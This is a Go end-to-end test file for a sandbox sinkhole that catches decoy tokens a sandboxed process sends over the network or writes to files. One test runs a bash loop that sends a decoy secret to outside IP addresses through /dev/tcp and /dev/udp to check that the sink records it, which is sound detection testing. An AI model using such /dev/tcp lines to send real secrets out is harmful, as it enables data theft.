//go:build linux && e2e

package sandbox_test

import (
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/coalmine-dev/coalmine/canaries"
	"github.com/coalmine-dev/coalmine/sandbox"
	"github.com/coalmine-dev/coalmine/sandbox/agent"
	"github.com/coalmine-dev/coalmine/sandbox/sandboxtest"
	"github.com/coalmine-dev/coalmine/sandbox/session"
	"github.com/coalmine-dev/coalmine/sandbox/trace"
)

const decoySent = "q8Zk2vR4mT0xWb7NfLcJ1sYh"

// sunk puts a run into a sinkhole that knows one decoy.
func sunk(s sandbox.Spec) sandbox.Spec {
	s.Network, s.Canaries = &agent.Network{}, []canaries.Canary{{ID: "decoy", Kind: "token", Value: decoySent}}
	return s
}

// said joins what a run sent on flows to a port, and counts the hits.
func said(flows []trace.Flow, port uint16) (text string, hits int) {
	to := map[uint64]bool{}
	for _, f := range flows {
		switch {
		case f.Type == trace.FlowOpen && f.Dest.Port() == port:
			to[f.Flow] = true
		case f.Type == trace.FlowData && to[f.Flow]:
			text += string(f.Data)
		case f.Type == trace.FlowHit && to[f.Flow] && f.Canary == "decoy":
			hits++
		}
	}
	return text, hits
}

// TestSinkholeTellsWhatWasSentBeforeASync: all that a target has sent when a
// sync begins is with the sink when it returns, TCP and UDP, without any wait.
func TestSinkholeTellsWhatWasSentBeforeASync(t *testing.T) {
	t.Parallel()
	sandboxtest.Acquire(t, sandboxtest.Light)
	kinds(t, func(t *testing.T, b sandboxtest.Bare, traceSet string) {
		s := spec("bash", "-c", `while read -r n; do
			echo "tcp $n `+decoySent+`" >/dev/tcp/93.184.216.34/7000
			echo "udp $n" >/dev/udp/8.8.8.8/7001
			echo "$n"
		done`)
		s.TraceSet = traceSet
		a := start(t, b, sunk(s))
		for _, n := range []string{"one", "two", "three", "four"} {
			if err := a.Stdin([]byte(n + "\n")); err != nil {
				t.Fatal(err)
			}
			a.sees(t, n, func() bool { return strings.Contains(a.Out(), n+"\n") })
			if err := a.Sync(bounded(t)); err != nil {
				t.Fatal(err)
			}
			tcp, hits := said(a.Flows(), 7000)
			if udp, _ := said(a.Flows(), 7001); !strings.Contains(tcp, "tcp "+n) || !strings.Contains(udp, "udp "+n) || hits == 0 {
				t.Fatalf("after %s: tcp %q, udp %q, %d hits", n, tcp, udp, hits)
			}
		}
		if err := a.Stop(bounded(t), time.Second); err != nil {
			t.Fatal(err)
		}
		a.ends(t)
		if lost := sandboxtest.EventsOf[session.EventLoss](a.Recorder); len(lost) > 0 || a.Lost() != 0 {
			t.Errorf("losses %+v, %d", lost, a.Lost())
		}
	})
}

// TestSinkIsApart: the process that answers is no one's that the target could
// be, holds no capability, and its death is told.
func TestSinkIsApart(t *testing.T) {
	sandboxtest.Acquire(t, sandboxtest.Light)
	sandboxtest.Need(t, "userns")
	if os.Getuid() != 0 {
		t.Skip("an ordinary user may map no second uid")
	}
	s := spec("sh", "-c", `for p in /proc/[0-9]*; do grep -s -e '^Uid:' -e '^CapEff:' -e '^CapBnd:' -e '^NoNewPrivs:' $p/task/*/status; done; echo end; cat`)
	a := start(t, sandboxtest.Bare{}, sunk(s))
	a.sees(t, "the list", func() bool { return strings.Contains(a.Out(), "end") })
	threads, bad := 0, []string{}
	lines := strings.Split(a.Out(), "\n")
	for i, l := range lines {
		if !strings.Contains(l, "65533\t65533\t65533\t65533") {
			continue
		}
		threads++
		for _, more := range lines[i+1 : i+4] {
			value := more[strings.LastIndex(more, "\t")+1:]
			if strings.Contains(more, "Cap") && value != "0000000000000000" || strings.Contains(more, "NoNewPrivs") && value != "1" {
				bad = append(bad, more)
			}
		}
	}
	if threads == 0 || len(bad) > 0 {
		t.Errorf("%d threads of the sink's, with %q in\n%s", threads, bad, a.Out())
	}
	pid := sinkOf(t)
	if err := unix.Kill(pid, unix.SIGKILL); err != nil {
		t.Fatal(err)
	}
	a.sees(t, "the loss", func() bool {
		lost := sandboxtest.EventsOf[session.EventLoss](a.Recorder)
		return len(lost) == 1 && strings.Contains(lost[0].Reason, "the sinkhole ended (SIGKILL)")
	})
	if err := a.Stop(bounded(t), time.Second); err != nil {
		t.Fatal(err)
	}
}

// sinkOf finds the sink below this process.
func sinkOf(t *testing.T) int {
	t.Helper()
	parents, sinks := map[int]int{}, []int{}
	all, _ := os.ReadDir("/proc")
	for _, e := range all {
		pid, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		b, err := os.ReadFile("/proc/" + e.Name() + "/status")
		if err != nil {
			continue
		}
		for l := range strings.Lines(string(b)) {
			switch f := strings.Fields(l); f[0] {
			case "PPid:":
				parents[pid], _ = strconv.Atoi(f[1])
			case "Uid:":
				if f[1] == "65533" {
					sinks = append(sinks, pid)
				}
			}
		}
	}
	for _, s := range sinks {
		for p := s; p > 1; p = parents[p] {
			if p == os.Getpid() {
				return s
			}
		}
	}
	t.Fatalf("no sink below %d among %v", os.Getpid(), sinks)
	return 0
}

// TestSearch: a decoy in a file that the target wrote is told, raw and packed,
// and no link leads elsewhere.
func TestSearch(t *testing.T) {
	t.Parallel()
	sandboxtest.Acquire(t, sandboxtest.Light)
	kinds(t, func(t *testing.T, b sandboxtest.Bare, traceSet string) {
		dir, err := os.MkdirTemp("", "written")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = os.RemoveAll(dir) })
		if err := os.Chmod(dir, 0o777); err != nil {
			t.Fatal(err)
		}
		s := sunk(spec("sh", "-c", "cd "+dir+" && echo 'x "+decoySent+"' >plain && echo "+decoySent+` | gzip >packed && echo none >none && ln -s plain link && mkfifo pipe && echo made; cat`))
		s.TraceSet = traceSet
		a := start(t, b, s)
		a.sees(t, "the files", func() bool { return strings.Contains(a.Out(), "made") })
		var paths []string
		for _, name := range []string{"plain", "packed", "none", "link", "pipe", "absent"} {
			paths = append(paths, dir+"/"+name)
		}
		if left, err := a.Search(bounded(t), paths); err != nil || left != 0 {
			t.Fatal(left, err)
		}
		var found []string
		for _, e := range sandboxtest.EventsOf[session.EventFound](a.Recorder) {
			found = append(found, strings.TrimPrefix(e.Path, dir)+" "+e.Canary+" "+e.Encoding)
		}
		if want := []string{"/plain decoy raw", "/packed decoy gzip"}; !slices.Equal(found, want) {
			t.Errorf("found %q, want %q", found, want)
		}
		if err := a.Stop(bounded(t), time.Second); err != nil {
			t.Fatal(err)
		}
		if lost := sandboxtest.EventsOf[session.EventLoss](a.Recorder); len(lost) > 0 {
			t.Errorf("losses %+v", lost)
		}
	})
}
